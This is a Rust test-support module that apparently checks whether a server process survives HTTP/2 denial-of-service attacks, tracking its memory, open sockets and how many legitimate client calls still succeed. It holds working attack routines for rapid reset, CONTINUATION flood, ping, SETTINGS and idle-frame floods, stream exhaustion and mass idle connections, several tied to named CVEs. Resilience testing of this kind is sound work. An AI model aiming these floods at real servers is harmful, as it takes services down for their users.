//! Attacks on any HTTP/2 listener, as bytes on sockets, and what they cost: the memory and the open
//! connections of the attacked process, and the calls of another client.

use std::{
    io::Write as _,
    net::{SocketAddr, TcpStream},
    path::Path,
    time::{Duration, Instant},
};

use tokio::{net::TcpSocket, runtime::Handle};

use super::{eventually, prerequisites::skip};

/// Generous upper bound for each operation.
const TIMEOUT: Duration = Duration::from_mins(1);

/// How long a call of another client may take: less than the 10 s for which core waits for a handshake.
const CALL_TIMEOUT: Duration = Duration::from_secs(8);

/// Calls while the connections of a finished attack are still open.
const CALLS_AFTER: usize = 40;

/// The largest accepted growth of the process's memory: the 64 MiB for bodies, and twice as much for
/// connections.
pub(crate) const MAX_GROWTH_KIB: u64 = 192 * 1024;

pub(crate) const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
pub(crate) const DATA: u8 = 0;
pub(crate) const HEADERS: u8 = 1;
const PRIORITY: u8 = 2;
pub(crate) const RST_STREAM: u8 = 3;
pub(crate) const SETTINGS: u8 = 4;
pub(crate) const PING: u8 = 6;
pub(crate) const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;
pub(crate) const END_HEADERS: u8 = 4;
pub(crate) const END_STREAM: u8 = 1;
/// A flow-control window of 0 for every stream.
pub(crate) const NO_WINDOW: &[u8] = &[0, 4, 0, 0, 0, 0];
/// A gRPC message without fields.
pub(crate) const EMPTY_MESSAGE: &[u8] = &[0; 5];
/// `GET http://x/` in HPACK.
const GET: &[u8] = b"\x82\x86\x84\x41\x01x";
/// `POST http://x/`.
const POST: &[u8] = b"\x83\x86\x84\x41\x01x";

pub(crate) fn connect(addr: &str) -> TcpStream {
    let stream = TcpStream::connect(addr).unwrap();
    stream.set_write_timeout(Some(TIMEOUT)).unwrap();
    stream
        .set_read_timeout(Some(Duration::from_millis(200)))
        .unwrap();
    stream
}

pub(crate) fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let [_, length @ ..] = u32::try_from(payload.len()).unwrap().to_be_bytes();
    [&length[..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

/// A connection after the preface and these settings.
pub(crate) fn http2_with(addr: &str, settings: &[u8]) -> TcpStream {
    let mut stream = connect(addr);
    stream.write_all(PREFACE).unwrap();
    stream.write_all(&frame(SETTINGS, 0, 0, settings)).unwrap();
    stream
}

/// A header field (RFC 7541 §6.2.2) whose name is encoded.
fn literal(name: &[u8], value: &[u8]) -> Vec<u8> {
    // RFC 7541 §5.1.
    let byte = |number: usize| u8::try_from(number).unwrap();
    let length = match value.len() {
        length @ ..127 => vec![byte(length)],
        length => vec![
            127,
            byte(128 | ((length - 127) % 128)),
            byte((length - 127) / 128),
        ],
    };
    [name, &length, value].concat()
}

/// The header fields of a `GET` of a path.
pub(crate) fn get(path: &[u8]) -> Vec<u8> {
    [b"\x82\x86\x41\x01x".to_vec(), literal(b"\x04", path)].concat()
}

/// The header field of a bearer token.
pub(crate) fn authorization(token: &str) -> Vec<u8> {
    literal(b"\x0f\x08", format!("Bearer {token}").as_bytes())
}

/// The header fields of a gRPC call.
pub(crate) fn call(path: &str, token: &str) -> Vec<u8> {
    [
        b"\x83\x86\x41\x01x".to_vec(),
        literal(b"\x04", path.as_bytes()),
        literal(b"\x0f\x10", b"application/grpc"),
        literal(b"\x00\x02te", b"trailers"),
        authorization(token),
    ]
    .concat()
}

fn http2(addr: &str) -> TcpStream {
    http2_with(addr, b"")
}

/// The ids of client-initiated streams.
pub(crate) fn stream_ids(count: u32) -> impl Iterator<Item = u32> {
    (0..count).map(|number| 2 * number + 1)
}

/// CVE-2023-44487.
pub(crate) fn rapid_reset(addr: &str) {
    reset_streams(addr, GET);
}

/// Requests with these headers that are reset at once.
pub(crate) fn reset_streams(addr: &str, headers: &[u8]) {
    for _ in 0..5 {
        let mut stream = http2(addr);
        for id in stream_ids(10_000) {
            let mut frames = frame(HEADERS, END_HEADERS | END_STREAM, id, headers);
            frames.extend(frame(RST_STREAM, 0, id, &8_u32.to_be_bytes()));
            if stream.write_all(&frames).is_err() {
                break;
            }
        }
    }
}

/// CVE-2024-27316 and similar attacks.
pub(crate) fn continuation_flood(addr: &str) {
    // A header of 16 KB, repeated, never indexed: its value fills the frame.
    let mut header = b"\x10\x01x\x7f\xfb\x7b".to_vec();
    header.resize(16_000, b'a');
    for _ in 0..5 {
        let mut stream = http2(addr);
        let _ = stream.write_all(&frame(HEADERS, 0, 1, GET));
        for _ in 0..4_000 {
            if stream
                .write_all(&frame(CONTINUATION, 0, 1, &header))
                .is_err()
            {
                break;
            }
        }
    }
}

/// More concurrent requests than allowed, none of which completes.
pub(crate) fn open_streams(addr: &str) {
    let mut streams = Vec::new();
    for _ in 0..10 {
        let mut stream = http2(addr);
        for id in stream_ids(5_000) {
            if stream
                .write_all(&frame(HEADERS, END_HEADERS, id, POST))
                .is_err()
            {
                break;
            }
        }
        streams.push(stream);
    }
}

/// CVE-2019-9512: pings whose answers are not read.
pub(crate) fn ping_flood(addr: &str) -> Vec<TcpStream> {
    flood(addr, &frame(PING, 0, 0, b"12345678"))
}

/// CVE-2019-9515.
pub(crate) fn settings_flood(addr: &str) -> Vec<TcpStream> {
    flood(addr, &frame(SETTINGS, 0, 0, b""))
}

/// Frames that ask for nothing: CVE-2019-9513.
pub(crate) fn idle_frame_flood(addr: &str) -> Vec<TcpStream> {
    let priority = frame(PRIORITY, 0, 1, &[0, 0, 0, 0, 16]);
    let update = frame(WINDOW_UPDATE, 0, 0, &1_u32.to_be_bytes());
    flood(addr, &[priority, update].concat())
}

/// Sends a megabyte of a frame on each of four connections, without reading.
fn flood(addr: &str, repeated: &[u8]) -> Vec<TcpStream> {
    let many = repeated.repeat(64_000 / repeated.len());
    let connections = (0..4).map(|_| {
        let mut connection = http2(addr);
        // A server that does not read what it cannot answer has defended itself.
        let timeout = Some(Duration::from_millis(500));
        connection.set_write_timeout(timeout).unwrap();
        for _ in 0..16 {
            if connection.write_all(&many).is_err() {
                break;
            }
        }
        connection
    });
    connections.collect()
}

/// Connections that open no stream.
pub(crate) fn idle_connections(addr: &str) -> Vec<TcpStream> {
    process::listen::raise_file_limit();
    (0..3_000).map(|_| http2(addr)).collect()
}

/// Connections from another address of this machine that open no stream.
pub(crate) fn idle_connections_from(source: [u8; 4], addr: &str, count: usize) -> Vec<TcpStream> {
    process::listen::raise_file_limit();
    let addr: SocketAddr = addr.parse().unwrap();
    let connect = async || {
        let socket = TcpSocket::new_v4().unwrap();
        socket.bind((source, 0).into()).unwrap();
        let stream = socket.connect(addr).await.unwrap().into_std().unwrap();
        stream.set_nonblocking(false).unwrap();
        stream
    };
    let connections = (0..count).map(|_| {
        let mut connection = Handle::current().block_on(connect());
        let settings = frame(SETTINGS, 0, 0, b"");
        connection
            .write_all(&[PREFACE, &settings].concat())
            .unwrap();
        connection
    });
    connections.collect()
}

/// Connections that send these bytes, and no more.
pub(crate) fn begun_connections(addr: &str, count: usize, begin: &[u8]) -> Vec<TcpStream> {
    process::listen::raise_file_limit();
    let connections = (0..count).map(|_| {
        let mut connection = connect(addr);
        connection.write_all(begin).unwrap();
        connection
    });
    connections.collect()
}

/// Asserts that at least 99 % of a client's calls, or all but one, succeed during an attack, and while its
/// connections remain open. One may be lost: the client has the attacker's address.
pub(crate) async fn assert_served(
    name: &str,
    attack: impl FnOnce() -> Vec<TcpStream> + Send + 'static,
    call: impl AsyncFn() -> bool,
) {
    let started = Instant::now();
    let mut attack = tokio::task::spawn_blocking(attack);
    let mut connections = None;
    let (mut calls, mut served, mut calls_after) = (0, 0, 0);
    while calls_after < CALLS_AFTER {
        calls += 1;
        if tokio::time::timeout(CALL_TIMEOUT, call()).await == Ok(true) {
            served += 1;
        }
        if connections.is_some() {
            calls_after += 1;
        } else if attack.is_finished() {
            connections = Some((&mut attack).await.unwrap());
        }
    }
    eprintln!(
        "{name}: {served} of {calls} calls served in {:?}",
        started.elapsed()
    );
    let lost = calls - served;
    assert!(lost <= (calls / 100).max(1), "{name}: {served} of {calls}");
}

/// Resident memory of a process, in KiB; 0 on a machine without `/proc`.
pub(crate) fn resident_kib(process: u32) -> u64 {
    if !has_proc() {
        return 0;
    }
    let status = std::fs::read_to_string(format!("/proc/{process}/status")).unwrap();
    let line = status.lines().find_map(|line| line.strip_prefix("VmRSS:"));
    let number = line.and_then(|line| line.split_whitespace().next());
    number.unwrap().parse().unwrap()
}

/// Waits until a process has not many more open files and sockets than before an attack.
pub(crate) async fn wait_until_closed(process: u32, before: usize) {
    eventually(TIMEOUT, "connections remain open", async || {
        (open_files(process) <= before + 16).then_some(())
    })
    .await;
}

/// The open files and sockets of a process; 0 on a machine without `/proc`.
pub(crate) fn open_files(process: u32) -> usize {
    if !has_proc() {
        return 0;
    }
    std::fs::read_dir(format!("/proc/{process}/fd"))
        .unwrap()
        .count()
}

fn has_proc() -> bool {
    let exists = Path::new("/proc/self/status").exists();
    if !exists {
        skip("what an attack costs", "this machine has no /proc");
    }
    exists
}
